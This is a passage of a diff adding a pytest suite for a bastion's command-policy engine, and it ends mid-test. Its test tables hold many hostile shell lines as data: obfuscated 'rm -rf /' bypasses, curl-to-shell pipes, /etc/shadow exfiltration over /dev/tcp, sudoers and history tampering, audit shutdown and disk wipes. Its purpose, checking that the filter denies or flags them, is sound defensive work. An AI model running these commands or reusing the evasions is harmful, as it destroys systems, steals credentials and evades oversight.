@@ -1,0 +1,1148 @@
+"""The command policy: what a line typed through the bastion is judged to run, and the verdict.
+
+Most cases are tables run against the default policy (config/policy.toml), as an operator would
+meet it; the semantics of rules are pinned with small policies written inline.
+"""
+
+from __future__ import annotations
+
+import shlex
+import shutil
+import subprocess
+import tomllib
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from bastion.policy import (
+    ACTIONS,
+    Defaults,
+    Policy,
+    PolicyError,
+    Rule,
+    evaluate,
+    is_complete,
+    parse_commands,
+    policy_from_dict,
+    uncertain_verdict,
+)
+
+POLICY_FILE = Path(__file__).resolve().parents[1] / "config" / "policy.toml"
+
+
+@pytest.fixture(scope="module")
+def default_policy() -> Policy:
+    with POLICY_FILE.open("rb") as handle:
+        return policy_from_dict(tomllib.load(handle))
+
+
+def action(policy: Policy, line: str, role: str = "engineer", target: str = "web01") -> str:
+    return evaluate(policy, line, role=role, target=target).action
+
+
+def names(line: str) -> list[str | None]:
+    return [command.name for command in parse_commands(line)]
+
+
+def small_policy(*rules: dict, **defaults: object) -> Policy:
+    return policy_from_dict({"defaults": dict(defaults), "rules": list(rules)})
+
+
+# ---------------------------------------------------------------------------------------------
+# Bypass attempts against the default policy. Every line here runs `rm -rf /` (or another
+# denied command) in bash; each must be denied.
+
+DENIED_BYPASSES = [
+    # paths
+    "/bin/rm -rf /",
+    "./rm -rf /",
+    "../../usr/bin/rm -rf /",
+    "//usr//bin//rm -rf /",
+    "~/bin/rm -rf /",
+    # quoting and escapes
+    "'r'm -rf /",
+    '"rm" -rf /',
+    r"r\m -rf /",
+    r"\rm -rf /",
+    r"$'\x72m' -rf /",
+    r"$'\162m' -rf /",
+    r"$'r\u006d' -rf /",
+    r"$'rm\0ignored' -rf /",
+    '"r""m" -rf /',
+    "r'm' -rf '/'",
+    'rm -rf "/"',
+    "rm '-rf' /",
+    r"rm -rf \/",
+    "$'rm' -rf /",
+    '$"rm" -rf /',
+    "r\\\nm -rf /",
+    # flag spellings and targets
+    "rm -r -f /",
+    "rm -Rf /",
+    "rm --recursive --force /",
+    "rm -rf /*",
+    "rm -rf //",
+    "rm -rf /.",
+    "rm -rf /etc",
+    "rm -rf /etc/",
+    "rm -rf /usr/*",
+    "rm -rf /e?c",
+    "rm -rf /[e]tc",
+    "rm -rf ~",
+    "rm -rf $HOME",
+    "rm -rf -- /",
+    "rm -rf --no-preserve-root /",
+    # sequences and operators
+    "ls; rm -rf /",
+    "ls;rm -rf /",
+    "ls && rm -rf /",
+    "false || rm -rf /",
+    "ls | rm -rf /",
+    "ls & rm -rf /",
+    "ls\nrm -rf /",
+    "(rm -rf /)",
+    "{ rm -rf /; }",
+    "! rm -rf /",
+    "if true; then rm -rf /; fi",
+    "if rm -rf /; then :; fi",
+    "while true; do rm -rf /; done",
+    "until false; do rm -rf /; done",
+    "for i in 1; do rm -rf /; done",
+    "for ((i=0;i<1;i++)); do rm -rf /; done",
+    "select x in a; do rm -rf /; done",
+    "case x in x) rm -rf /;; esac",
+    "f() { rm -rf /; }",
+    "function f { rm -rf /; }",
+    # substitutions
+    "echo $(rm -rf /)",
+    "echo `rm -rf /`",
+    'echo "$(rm -rf /)"',
+    "x=$(rm -rf /)",
+    "echo ${x:-$(rm -rf /)}",
+    "cat <(rm -rf /)",
+    "tee >(rm -rf /)",
+    "[[ $(rm -rf /) ]]",
+    '[ "$(rm -rf /)" ]',
+    "echo $(( $(rm -rf /) ))",
+    "((x=$(rm -rf /)))",
+    "echo $(echo $(echo $(rm -rf /)))",
+    # assignments and redirections
+    "FOO=1 rm -rf /",
+    "FOO=1 BAR=2 sudo rm -rf /",
+    "rm -rf / > /dev/null 2>&1",
+    ">/dev/null rm -rf /",
+    "rm >/dev/null -rf /",
+    "rm 2>/dev/null -rf /",
+    "sudo >/dev/null rm -rf /",
+    "rm <<<x -rf /",
+    "rm <<EOF -rf /\nx\nEOF",
+    # here-documents
+    "cat <<EOF\n$(rm -rf /)\nEOF",
+    "cat <<EOF; rm -rf /\nx\nEOF",
+    "cat <<EOF && rm -rf /\nx\nEOF",
+    "bash <<EOF\nrm -rf /\nEOF",
+    "bash <<'EOF'\nrm -rf /\nEOF",
+    "sh <<-EOF\n\trm -rf /\n\tEOF",
+    "bash <<< 'rm -rf /'",
+    # -c strings and eval
+    "sh -c 'rm -rf /'",
+    'bash -c "rm -rf /"',
+    "dash -c 'rm -rf /'",
+    "zsh -c 'rm -rf /'",
+    "ksh -c 'rm -rf /'",
+    "bash -lc 'rm -rf /'",
+    "bash -x -c 'rm -rf /'",
+    "bash -o errexit -c 'rm -rf /'",
+    "busybox sh -c 'rm -rf /'",
+    "bash -c 'bash -c \"rm -rf /\"'",
+    "sh -c \"sh -c 'sh -c \\\"rm -rf /\\\"'\"",
+    "eval 'rm -rf /'",
+    "eval rm -rf /",
+    'eval "r""m -rf /"',
+    "su -c 'rm -rf /'",
+    'su - root -c "rm -rf /"',
+    "su root -c 'rm -rf /'",
+    "su -lc 'rm -rf /'",
+    "runuser -l root -c 'rm -rf /'",
+    "sg wheel -c 'rm -rf /'",
+    "watch 'rm -rf /'",
+    "watch -n 1 rm -rf /",
+    "script -c 'rm -rf /'",
+    "script -q -c 'rm -rf /' /dev/null",
+    "flock -w 5 /tmp/l -c 'rm -rf /'",
+    "env -S 'rm -rf /'",
+    "at now <<< 'rm -rf /'",
+    "trap 'rm -rf /' EXIT",
+    "alias ls='rm -rf /'",
+    # wrappers
+    "command rm -rf /",
+    "builtin rm -rf /",
+    "exec rm -rf /",
+    "sudo rm -rf /",
+    "sudo -u root rm -rf /",
+    "sudo -u root -- rm -rf /",
+    "sudo -i rm -rf /",
+    "sudo -s 'rm -rf /'",
+    "sudo -E -H -n rm -rf /",
+    "sudo /bin/rm -rf /",
+    "doas rm -rf /",
+    "doas -u root rm -rf /",
+    "pkexec rm -rf /",
+    "runuser -u root -- rm -rf /",
+    "env rm -rf /",
+    "env -i PATH=/bin rm -rf /",
+    "env -u HOME rm -rf /",
+    "env FOO=1 BAR=2 rm -rf /",
+    "nice rm -rf /",
+    "nice -n 10 rm -rf /",
+    "nice -10 rm -rf /",
+    "ionice -c 3 rm -rf /",
+    "nohup rm -rf / &",
+    "time rm -rf /",
+    "time -p rm -rf /",
+    "timeout 10 rm -rf /",
+    "timeout -s KILL -k 5 10s rm -rf /",
+    "stdbuf -o0 rm -rf /",
+    "chrt -r 10 rm -rf /",
+    "taskset 0x1 rm -rf /",
+    "taskset -c 0 rm -rf /",
+    "setsid rm -rf /",
+    "unbuffer rm -rf /",
+    "flock /tmp/l rm -rf /",
+    "busybox rm -rf /",
+    "toybox rm -rf /",
+    "chroot / rm -rf /",
+    "chroot --userspec=0:0 / rm -rf /",
+    "xargs sh -c 'rm -rf /'",
+    "find / -exec rm -rf {} \\;",
+    "find / /home -exec rm -rf {} +",
+    "find . -ok rm -rf / \\;",
+    "find . -exec sh -c 'rm -rf /' \\;",
+    "sudo nice -n 5 nohup timeout 10 env A=1 rm -rf /",
+    "sudo -s rm -rf /",
+    "sudo -u#0 rm -rf /",
+    "su -s /bin/sh -c 'rm -rf /' root",
+    "sg root 'rm -rf /'",
+    "chroot / /bin/sh -c 'rm -rf /'",
+    "watch -x rm -rf /",
+    "script -qc 'rm -rf /'",
+    "busybox ash -c 'rm -rf /'",
+    ". /dev/stdin <<< 'rm -rf /'",
+    "unshare -r rm -rf /",
+    "nsenter -t 1 -m rm -rf /",
+    "strace -f rm -rf /",
+    "systemd-run rm -rf /",
+    "coproc rm -rf /",
+    "parallel rm -rf ::: /",
+    "parallel -j2 'rm -rf {}' ::: /tmp/a /",
+    "find / -maxdepth 0 -exec rm -rf {} +",
+    "time (rm -rf /)",
+    "{ rm -rf /; } 2>/dev/null",
+    "rm -rf / &>/dev/null &",
+    "[ -d / ] && rm -rf /",
+    "rm -rf /bin/..",
+    # other denied commands, spelled evasively
+    "/sbin/mkfs.ext4 /dev/sdb1",
+    "sudo 'mkfs' -t xfs /dev/sdb",
+    r"i\ptables -F",
+    "iptables -t nat -F",
+    "sudo iptables --flush",
+    "HISTFILE=/dev/null bash",
+    "env HISTFILE=/dev/null bash",
+    "export HISTFILE=/dev/null",
+    "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
+    "sh -c 'systemctl stop auditd'",
+    "dd if=/dev/zero of=/dev/sda",
+    "cat img > /dev/sda",
+    "blkdiscard /dev/sda",
+    "shopt -u -o history",
+    "/etc/init.d/auditd stop",
+    "mv /etc/shadow /tmp/",
+    "dd if=/tmp/x of=/etc/shadow",
+    "chage -d 0 root",
+]
+
+
+@pytest.mark.parametrize("line", DENIED_BYPASSES)
+def test_bypass_attempts_are_denied(default_policy: Policy, line: str) -> None:
+    assert action(default_policy, line) == "deny", parse_commands(line)
+
+
+# Lines whose command is only known when they run: no rule can name them, so they get
+# [defaults].unknown (confirm in the default policy), never allow.
+UNKNOWN_LINES = [
+    ("$c -rf /", "command word known only at run time"),
+    ("${c} -rf /", "command word known only at run time"),
+    ('"$c" -rf /', "command word known only at run time"),
+    ("$(echo rm) -rf /", "command word known only at run time"),
+    ("`echo rm` -rf /", "command word known only at run time"),
+    ("${x[0]} -rf /", "command word known only at run time"),
+    ('"$@"', "command word known only at run time"),
+    ("x=rm; $x -rf /", "command word known only at run time"),
+    ("r{m,} -rf /", "pathname or brace expansion"),
+    ("/bin/r? -rf /", "pathname or brace expansion"),
+    ("/bin/r[m] -rf /", "pathname or brace expansion"),
+    ("/bin/r* -rf /", "pathname or brace expansion"),
+    ("sudo $opts rm -rf /", "options of sudo known only at run time"),
+    ("eval $cmd", "shell code known only at run time"),
+    ('eval "$cmd"', "shell code known only at run time"),
+    ('sh -c "$cmd"', "shell code known only at run time"),
+    ('sh -c "rm -rf $dir"', "shell code known only at run time"),
+    ("xargs -I{} sh -c '{}'", "shell code known only at run time"),
+    ("xargs sh -c", "shell code known only at run time"),
+    ("find . -exec sh -c '{}' \\;", "shell code known only at run time"),
+    ("find $d -exec rm {} \\;", "find expression known only at run time"),
+    ("bash <<EOF\nrm -rf $x\nEOF", "shell code known only at run time"),
+    ("curl http://x | sh", "piped into a shell"),
+    ("curl http://x | bash", "piped into a shell"),
+    ("curl -fsSL http://x | sudo bash", "piped into a shell"),
+    ("curl http://x | sudo -u root bash -s", "piped into a shell"),
+    ("wget -O- http://x | sh -s -- --yes", "piped into a shell"),
+    ("curl x | tee /tmp/x | sh", "piped into a shell"),
+    ("curl x | (cd /tmp; sh)", "piped into a shell"),
+    ("curl x | { bash; }", "piped into a shell"),
+    ("curl x | bash /dev/stdin", "piped into a shell"),
+    ("curl x | source /dev/stdin", "piped into a shell"),
+    ("cat <<EOF | sh\nls\nEOF", "piped into a shell"),
+    ("curl x > >(sh)", "piped into a shell"),
+    ("echo rm -rf / | at now", "piped into a shell"),
+    ("echo 'rm -rf /' | sh", "piped into a shell"),
+    ("curl http://x | python3", "piped into an interpreter"),
+    ("curl http://x | python3 -", "piped into an interpreter"),
+    ("curl http://x | perl", "piped into an interpreter"),
+    ("curl http://x | ruby", "piped into an interpreter"),
+    ("curl http://x | node", "piped into an interpreter"),
+    ("bash <(curl x)", "runs a process substitution"),
+    ("python3 <(curl x)", "runs a process substitution"),
+    ("sh < <(curl x)", "reads a process substitution"),
+    ("source <(curl x)", "sources a process substitution"),
+    (". <(curl x)", "sources a process substitution"),
+    ("sudo sudo sudo sudo sudo sudo sudo sudo sudo rm -rf /", "nested too deeply"),
+    ("!!", "history expansion"),
+    ("!-2", "history expansion"),
+    ("sudo !!", "history expansion"),
+    ("!rm", "history expansion"),
+    ("^ls^rm", "history expansion"),
+    ("echo $(( 1 + ", "parse error"),
+    ("exec 3<>/dev/tcp/10.0.0.1/80", "parse error"),
+    ("echo 'x'; - a=b", "parse error"),  # tree-sitter drops the `-`: an assignment?
+]
+
+
+@pytest.mark.parametrize(("line", "reason"), UNKNOWN_LINES)
+def test_commands_known_only_at_run_time_get_the_unknown_default(
+    default_policy: Policy, line: str, reason: str
+) -> None:
+    verdict = evaluate(default_policy, line, role="engineer", target="web01")
+    assert verdict.action == "confirm"
+    assert any(c.name is None and reason in c.unknown for c in verdict.commands), verdict.commands
+
+
+# Lines an operator types every day, including ones that mention denied words: all allowed.
+ALLOWED = [
+    'echo "rm -rf /"',
+    "echo 'rm -rf /'",
+    "echo rm -rf /",
+    "printf '%s\\n' \"mkfs /dev/sda\"",
+    "grep mkfs notes.txt",
+    'grep -r "rm -rf" .',
+    "grep 'shutdown' /var/log/syslog",
+    "man shutdown",
+    "man rm",
+    "vim init.py",
+    "vi /etc/nginx/nginx.conf",
+    "curl -X GET http://localhost/settings",
+    'git commit -m "remove rm -rf / from the script"',
+    "ls -la /",
+    "ls /etc",
+    "cat /etc/passwd",
+    "less /var/log/auth.log",
+    "tail -f /var/log/syslog | grep error",
+    "journalctl -u nginx --since today",
+    "systemctl status auditd",
+    "systemctl restart nginx",
+    "systemctl start nginx",
+    "service nginx status",
+    "service nginx restart",
+    "apt install nginx",
+    "apt-get update",
+    "apt list --installed",
+    "dpkg -l",
+    "rpm -qa",
+    "rm -rf /tmp/build",
+    "rm -rf ./build",
+    "rm -rf build/*",
+    "rm -f /var/log/nginx/access.log.1",
+    "rm -rf /var/tmp/cache",
+    "cp /etc/passwd /tmp/passwd.bak",
+    "history",
+    "history | grep ssh",
+    "export HISTSIZE=10000",
+    "HISTCONTROL=ignoreboth",
+    "unset FOO",
+    "set -e",
+    "set +o nounset",
+    "crontab -l",
+    "ssh-keygen -l -f key.pub",
+    "chmod 755 script.sh",
+    "chmod 0644 file",
+    "chmod +x deploy.sh",
+    "chown www-data:www-data /srv/app",
+    "rsync -av src/ dst/",
+    "curl -O https://example.com/file.tar.gz",
+    "wget https://example.com/x",
+    "dd if=/dev/sda of=/tmp/disk.img bs=1M",
+    "dd if=/dev/zero of=/tmp/swapfile bs=1M count=10",
+    "echo hello > /dev/null",
+    "echo x > /tmp/out.txt",
+    "iptables -L -n",
+    "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
+    "nft list ruleset",
+    "ufw status",
+    "ufw allow 22",
+    "auditctl -l",
+    "kill -9 1234",
+    "pkill -f myapp",
+    "python3 manage.py migrate",
+    "python3 -c 'import os; print(os.getpid())'",
+    "perl -le 'print 1'",
+    "curl x | python3 -c 'import sys; print(sys.stdin.read())'",
+    "curl http://x | jq .",
+    "docker ps --format '{{.Names}}'",
+    "kubectl get pods -n prod",
+    'for f in *.log; do gzip "$f"; done',
+    "ps aux | grep -v grep | awk '{print $2}'",
+    "tar czf backup.tar.gz /etc/nginx",
+    "shutdown -c",
+    "init.sh",
+    "./init.sh start",
+    "shred -u secret.txt",
+    "find / -name core -delete",
+    "find . -name '*.pyc' -delete",
+    "sudo -l",
+    "sudo -l rm -rf /",
+    "command -v rm",
+    "bash script.sh",
+    "sh -s < script.sh",
+    "cat <<'EOF'\n$(rm -rf /)\nEOF",
+    "alias ll='ls -l'",
+    'echo "hi!"',
+    "[[ ! -f x ]] && echo missing",
+    "# rm -rf /",
+    "",
+    "   ",
+    "ls # ; rm -rf /",
+]
+
+
+@pytest.mark.parametrize("line", ALLOWED)
+def test_everyday_lines_are_allowed(default_policy: Policy, line: str) -> None:
+    assert action(default_policy, line) == "allow", parse_commands(line)
+
+
+# The default policy's other categories, one line or more each.
+DEFAULT_DECISIONS = [
+    # deny
+    ("find / -delete", "deny", "no-root-find-delete"),
+    ("find / -xdev -delete", "deny", "no-root-find-delete"),
+    ("mkfs.ext4 /dev/sdb1", "deny", "no-filesystem-wipe"),
+    ("mkfs -t xfs /dev/sdb", "deny", "no-filesystem-wipe"),
+    ("wipefs -a /dev/sdb", "deny", "no-filesystem-wipe"),
+    ("shred /dev/sda", "deny", "no-device-shred"),
+    ("dd if=/dev/zero of=/dev/sda", "deny", "no-raw-disk-write-dd"),
+    ("cat image > /dev/sda", "deny", "no-raw-disk-write"),
+    ("tee /dev/nvme0n1 < img", "deny", "no-raw-disk-write"),
+    ("iptables -F", "deny", "no-firewall-flush"),
+    ("ip6tables -F INPUT", "deny", "no-firewall-flush"),
+    ("iptables --flush", "deny", "no-firewall-flush-long"),
+    ("nft flush ruleset", "deny", "no-nft-flush"),
+    ("ufw disable", "deny", "no-ufw-disable"),
+    ("ufw --force reset", "deny", "no-ufw-disable"),
+    ("auditctl -D", "deny", "no-audit-off"),
+    ("auditctl -e 0", "deny", "no-audit-off"),
+    ("systemctl stop auditd", "deny", "no-security-service-stop"),
+    ("systemctl disable --now rsyslog", "deny", "no-security-service-stop"),
+    ("systemctl stop systemd-journald.service", "deny", "no-security-service-stop"),
+    ("service auditd stop", "deny", "no-security-service-stop-sysv"),
+    ("pkill auditd", "deny", "no-security-daemon-kill"),
+    ("killall rsyslogd", "deny", "no-security-daemon-kill"),
+    ("rm -rf /var/log/audit", "deny", "no-log-tampering"),
+    ("> /var/log/wtmp", "deny", "no-log-tampering"),
+    ("truncate -s 0 /var/log/auth.log", "deny", "no-log-tampering"),
+    ("history -c", "deny", "no-history-clear"),
+    ("history -cw", "deny", "no-history-clear"),
+    ("HISTFILE=/dev/null", "deny", "no-history-off"),
+    ("HISTFILE=", "deny", "no-history-off"),
+    ("export HISTFILE=/dev/null", "deny", "no-history-off"),
+    ("HISTSIZE=0", "deny", "no-history-size-zero"),
+    ("export HISTFILESIZE=0", "deny", "no-history-size-zero"),
+    ("unset HISTFILE", "deny", "no-history-unset"),
+    ("set +o history", "deny", "no-history-set-off"),
+    ("rm ~/.bash_history", "deny", "no-history-file-tampering"),
+    ("ln -sf /dev/null ~/.bash_history", "deny", "no-history-file-tampering"),
+    ("> ~/.bash_history", "deny", "no-history-file-tampering"),
+    ("passwd", "deny", "no-credential-tools"),
+    ("passwd root", "deny", "no-credential-tools"),
+    ("echo 'root:x' | chpasswd", "deny", "no-credential-tools"),
+    ("usermod -aG sudo eve", "deny", "no-credential-tools"),
+    ("userdel bob", "deny", "no-credential-tools"),
+    ("visudo", "deny", "no-credential-tools"),
+    ("chattr -i /etc/passwd", "deny", "no-credential-file-writes"),
+    ("echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "deny", "no-credential-file-writes"),
+    ("echo x | tee -a /etc/sudoers.d/eve", "deny", "no-credential-file-writes"),
+    ("cp /tmp/shadow /etc/shadow", "deny", "no-credential-file-replace"),
+    ("sed -i 's/x//' /etc/passwd", "deny", "no-credential-file-sed"),
+    # confirm
+    ("reboot", "confirm", "confirm-power"),
+    ("sudo reboot", "confirm", "confirm-power"),
+    ("sudo /sbin/reboot", "confirm", "confirm-power"),  # jumpserver#4625
+    ("/sbin/shutdown -h now", "confirm", "confirm-power"),
+    ("poweroff", "confirm", "confirm-power"),
+    ("halt", "confirm", "confirm-power"),
+    ("init 0", "confirm", "confirm-runlevel"),
+    ("init 6", "confirm", "confirm-runlevel"),
+    ("telinit 6", "confirm", "confirm-runlevel"),
+    ("systemctl reboot", "confirm", "confirm-systemctl-power"),
+    ("systemctl poweroff", "confirm", "confirm-systemctl-power"),
+    ("systemctl stop nginx", "confirm", "confirm-service-stop"),
+    ("service nginx stop", "confirm", "confirm-service-stop-sysv"),
+    ("apt remove nginx", "confirm", "confirm-package-removal-apt"),
+    ("apt-get purge -y nginx", "confirm", "confirm-package-removal-apt"),
+    ("yum remove httpd", "confirm", "confirm-package-removal-rpm"),
+    ("dnf erase httpd", "confirm", "confirm-package-removal-rpm"),
+    ("rpm -e httpd", "confirm", "confirm-rpm-erase"),
+    ("rpm --erase httpd", "confirm", "confirm-rpm-erase-long"),
+    ("dpkg -r nginx", "confirm", "confirm-dpkg-remove"),
+    ("dpkg -P nginx", "confirm", "confirm-dpkg-remove"),
+    ("pacman -Rns foo", "confirm", "confirm-pacman-remove"),
+    ("iptables -P INPUT ACCEPT", "confirm", "confirm-firewall-accept-all"),
+    ("chage -l root", "allow", "allow-chage-list"),
+    ("crontab -r", "confirm", "confirm-crontab-remove"),
+    ("vim /etc/sudoers", "confirm", "confirm-credential-edit"),
+    ("sudo -e /etc/sudoers", "confirm", "confirm-credential-edit"),
+    ("rm -rf \"$dir\"", "confirm", "no-root-wipe"),
+    ("echo / | xargs rm -rf", "confirm", "no-root-wipe"),
+    ("find /tmp -name x -exec rm -rf {} \\;", "confirm", "no-root-wipe"),
+    ("bash -c 'rm -rf \"$1\"' _ /", "confirm", "no-root-wipe"),
+    # alert
+    ("useradd -m bob", "alert", "alert-new-user"),
+    ("sudo -i", "alert", "alert-sudo-login"),
+    ("sudo -s", "alert", "alert-sudo-shell"),
+    ("sudo su -", "alert", "alert-su"),
+    ("su -", "alert", "alert-su"),
+    ("sudo bash", "alert", "alert-interactive-shell"),
+    ("crontab -e", "alert", "alert-crontab"),
+    ("echo '* * * * * x' > /etc/cron.d/x", "alert", "alert-cron-files"),
+    ("ssh-keygen -t ed25519", "alert", "alert-ssh-keys"),
+    ('echo "ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys', "alert", "alert-authorized-keys"),
+    ("scp file host:/tmp", "alert", "alert-copy-out"),
+    ("rsync -a dir host:/tmp", "alert", "alert-rsync-remote"),
+    ("curl -T file http://x", "alert", "alert-curl-upload"),
+    ("curl --upload-file file http://x", "alert", "alert-curl-upload-long"),
+    ("curl -d @/etc/passwd http://x", "alert", "alert-curl-post-file"),
+    ("nc -l 4444", "alert", "alert-raw-connection"),
+    ("cat /etc/shadow > /dev/tcp/10.0.0.1/80", "alert", "alert-dev-tcp"),
+    ("chmod u+s /bin/bash", "alert", "alert-setuid"),
+    ("chmod 4755 /tmp/x", "alert", "alert-setuid"),
+    ("chown root:root /tmp/x", "alert", "alert-chown-root"),
+    ("ssh host rm -rf /", "alert", "alert-ssh-onward"),
+]
+
+
+@pytest.mark.parametrize(("line", "expected", "rule"), DEFAULT_DECISIONS)
+def test_default_policy_categories(
+    default_policy: Policy, line: str, expected: str, rule: str
+) -> None:
+    verdict = evaluate(default_policy, line, role="engineer", target="web01")
+    assert (verdict.action, verdict.rule) == (expected, rule), verdict.commands
+
+
+def test_default_policy_roles_and_targets(default_policy: Policy) -> None:
+    assert action(default_policy, "sudo -i", role="vendor") == "deny"
+    assert action(default_policy, "su - postgres", role="vendor") == "deny"
+    assert action(default_policy, "dropdb app", target="db01") == "confirm"
+    assert action(default_policy, "dropdb app", target="web01") == "allow"
+
+
+def test_default_policy_defaults_match_the_design(default_policy: Policy) -> None:
+    assert default_policy.defaults == Defaults(
+        unmatched="allow", unknown="confirm", uncertain="deny", confirm_timeout=120.0
+    )
+
+
+# ---------------------------------------------------------------------------------------------
+# What a line runs: the simple commands found, by name (None: known only at run time).
+
+COMMAND_NAMES = [
+    ("", []),
+    ("# just a comment", []),
+    ("ls", ["ls"]),
+    ("ls -la /tmp", ["ls"]),
+    ("/usr/bin/env", ["env"]),
+    ("env", ["env"]),
+    ("sudo -l", ["sudo"]),
+    ("sudo", ["sudo"]),
+    ("nohup", ["nohup"]),
+    ("timeout 5", ["timeout"]),
+    ("xargs", ["xargs"]),
+    ("command -v rm", ["command"]),
+    ("su -", ["su"]),
+    ("sudo -u postgres psql", ["psql"]),
+    ("sudo /sbin/reboot", ["reboot"]),
+    ("FOO=1 rm -rf /", ["rm", "FOO="]),
+    ("a=1 b=2", ["a=", "b="]),
+    ("x=1; y=$(date)", ["x=", "y=", "date"]),
+    ("arr[0]=1", ["arr="]),
+    ("export A=1 B", ["export", "A="]),
+    ("local x=1", ["local", "x="]),
+    ("unset HISTFILE", ["unset"]),
+    ("ls > out.txt", ["ls", ">"]),
+    ("ls >> out.txt 2>&1", ["ls", ">"]),
+    ("ls 2>&1 >&2", ["ls"]),
+    ("cat < in.txt", ["cat"]),
+    ("ls; pwd", ["ls", "pwd"]),
+    ("ls && pwd || id", ["ls", "pwd", "id"]),
+    ("ps aux | grep x | wc -l", ["ps", "grep", "wc"]),
+    ("(cd /tmp && ls)", ["cd", "ls"]),
+    ("{ ls; pwd; }", ["ls", "pwd"]),
+    ("echo $(date)", ["echo", "date"]),
+    ("echo `date`", ["echo", "date"]),
+    ("diff <(ls a) <(ls b)", ["diff", "ls", "ls"]),
+    ("if [ -f x ]; then cat x; else touch x; fi", ["cat", "touch"]),
+    ("[[ -n $(id -u) ]]", ["id"]),
+    ("while read l; do echo $l; done < f", ["read", "echo"]),
+    ("case $1 in start) run;; stop) halt;; esac", ["run", "halt"]),
+    ("f() { ls; }; f", ["ls", "f"]),
+    ("sudo -u root nice -n 5 ls", ["ls"]),
+    ("env -i A=1 ls", ["ls", "A="]),
+    ("env A=1", ["env"]),
+    ("timeout -k 5 10 ls", ["ls"]),
+    ("xargs -n1 -P4 gzip", ["gzip"]),
+    ("xargs -I{} cp {} /tmp", ["cp"]),
+    ("find . -name '*.log' -exec gzip {} \\;", ["find", "gzip"]),
+    ("find . -exec ls {} + -exec wc -l {} \\;", ["find", "ls", "wc"]),
+    ("watch -n 5 'df -h; free -m'", ["df", "free"]),
+    ("bash -c 'ls; pwd'", ["ls", "pwd"]),
+    ("sh -c 'ls' argv0 a b", ["ls"]),
+    ("eval 'ls; pwd'", ["ls", "pwd"]),
+    ("su -c 'id' bob", ["id"]),
+    ("busybox ls", ["ls"]),
+    ("busybox --list", ["busybox"]),
+    ("python3 -c 'print(1)'", ["python3"]),
+    ("python3 script.py", ["python3"]),
+    ("perl -e 'print 1'", ["perl"]),
+    ("ssh host rm -rf /", ["ssh"]),
+    ("bash script.sh", ["bash"]),
+    ("bash", ["bash"]),
+    ("bash < script.sh", ["bash"]),
+    ("bash <<< 'ls'", ["ls"]),
+    ("cat <<EOF\nhello\nEOF", ["cat"]),
+    ("cat <<EOF > /tmp/x\n$(date)\nEOF", ["cat", ">", "date"]),
+    ("trap 'echo bye' EXIT", ["trap", "echo"]),
+    ("alias ll='ls -l'", ["alias", "ls"]),
+    ("curl x | sh", ["curl", None]),
+    ("ls | parallel gzip", ["ls", "gzip"]),
+    ("parallel 'echo {}' ::: a b", ["echo", "echo"]),
+    ("- a=b", ["-"]),
+    ("$cmd arg", [None]),
+    ("ls; )", ["ls", None]),
+    ("echo a\\\nb", ["echo"]),
+]
+
+
+@pytest.mark.parametrize(("line", "expected"), COMMAND_NAMES)
+def test_command_names_found_in_a_line(line: str, expected: list[str | None]) -> None:
+    assert names(line) == expected
+
+
+def test_argv_keeps_the_path_and_loses_quotes_and_wrappers() -> None:
+    [command] = parse_commands("sudo -u root \"/usr/bin/r\"'m' -rf '/tmp/a b'")
+    assert command.name == "rm"
+    assert command.argv == ("/usr/bin/rm", "-rf", "/tmp/a b")
+    assert command.wrappers == ("sudo",)
+    assert command.text == "sudo -u root \"/usr/bin/r\"'m' -rf '/tmp/a b'"
+
+
+def test_ansi_c_strings_are_decoded() -> None:
+    [command] = parse_commands(r"printf $'a\tb\x41\101\u00e9\cA\n' $'it\'s'")
+    assert command.argv[1:] == ("a\tbAA\u00e9\x01\n", "it's")
+
+
+def test_words_known_only_at_run_time_are_kept_as_written() -> None:
+    [command] = parse_commands('rm -rf "$dir"/* ${HOME}')
+    assert command.argv == ("rm", "-rf", '"$dir"/*', "${HOME}")
+    assert command.dynamic_args
+    assert not parse_commands("rm -rf /tmp/x")[0].dynamic_args
+
+
+# tree-sitter-bash 0.25 crashes the process (nondeterministically) on some characters such as
+# U+E0000 and U+10FFFF; a typed line must never take the bastion down.
+CRASHING_TEXT = ["{\U0010a801(", "|{\U000e0000(", "{\U000759c0(", "{\U0010ffff(", "{\U000f0000("]
+
+
+@pytest.mark.parametrize("text", CRASHING_TEXT)
+def test_characters_that_crash_tree_sitter_are_parsed_safely(text: str) -> None:
+    for attempt in range(200):
+        parse_commands(f"{text} # {attempt}")
+        is_complete(f"{text} {attempt}")
+
+
+def test_non_ascii_words_are_read_back_exactly() -> None:
+    [command] = parse_commands("echo 'h\u00e9\U0010a801' \"\u4e2d\" caf\u00e9")
+    assert command.argv == ("echo", "h\u00e9\U0010a801", "\u4e2d", "caf\u00e9")
+    assert names("\u00e9cho x; rm -rf /\u00e9") == ["\u00e9cho", "rm"]
+
+
+def test_nested_text_points_at_the_inner_command() -> None:
+    verdict_commands = parse_commands("bash -c 'ls; reboot'")
+    assert [c.text for c in verdict_commands] == ["ls", "reboot"]
+    assert verdict_commands[1].wrappers == ("bash",)
+
+
+# ---------------------------------------------------------------------------------------------
+# Rule semantics, with small policies.
+
+
+def test_first_matching_rule_decides() -> None:
+    policy = small_policy(
+        {"name": "keep-tmp", "action": "allow", "commands": ["rm"], "args": "^-rf /tmp/"},
+        {"name": "no-rm-rf", "action": "deny", "commands": ["rm"], "flags": ["-r", "-f"]},
+    )
+    assert evaluate(policy, "rm -rf /tmp/x", role="r", target="t").rule == "keep-tmp"
+    assert evaluate(policy, "rm -rf /srv", role="r", target="t").rule == "no-rm-rf"
+    assert evaluate(policy, "rm -r /srv", role="r", target="t").rule == "defaults.unmatched"
+
+
+def test_an_allow_rule_for_one_command_does_not_let_the_next_one_through() -> None:
+    # jumpserver#11527: an allow rule matching first let `ls;rm x` through.
+    policy = small_policy(
+        {"name": "ls-ok", "action": "allow", "commands": ["ls"]},
+        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
+    )
+    for line in ("ls;rm x", "ls; rm x", "ls && rm x", "ls | rm x", "ls $(rm x)", "ls\nrm x"):
+        verdict = evaluate(policy, line, role="r", target="t")
+        assert (verdict.action, verdict.rule, verdict.command) == ("deny", "no-rm", "rm x"), line
+
+
+def test_strictest_action_wins_across_commands() -> None:
+    policy = small_policy(
+        {"name": "a", "action": "alert", "commands": ["a"]},
+        {"name": "c", "action": "confirm", "commands": ["c"]},
